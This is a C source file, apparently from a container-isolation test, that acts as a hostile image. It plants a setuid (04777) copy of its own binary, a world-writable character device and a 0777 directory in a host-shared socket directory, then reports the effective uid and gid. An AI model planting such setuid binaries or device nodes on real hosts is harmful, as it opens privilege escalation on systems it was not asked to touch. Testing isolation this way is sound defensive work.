/* What a hostile image leaves on the host, in the one directory there that it may write: a setuid copy of itself and a
 * device for everybody. `whoami` tells who runs the copy. */
#include "app.h"
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static int copy_of_self(const char *path)
{
    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0700);
    ssize_t n = 1;
    while (in >= 0 && out >= 0 && n > 0) n = sendfile(out, in, NULL, 1 << 20);
    int failed = n < 0 || out < 0 || fchmod(out, 04777);
    close(in);
    close(out);
    return failed;
}

void leave_behind(const char *socket)
{
    char place[108], path[128];
    snprintf(place, sizeof place, "%s", socket);
    *strrchr(place, '/') = 0;
    snprintf(path, sizeof path, "%s/program", place);
    if (copy_of_self(path)) log_line("left no program: %s", strerror(errno));
    snprintf(path, sizeof path, "%s/device", place);
    mode_t before = umask(0);
    if (mknod(path, S_IFCHR | 0666, makedev(1, 5))) log_line("left no device: %s", strerror(errno));
    umask(before);
    if (chmod(place, 0777)) log_line("cannot open the directory: %s", strerror(errno));
    log_line("left a program and a device in %s", place);
}

int whoami(void)
{
    printf("euid %u egid %u\n", (unsigned)geteuid(), (unsigned)getegid());
    return 0;
}
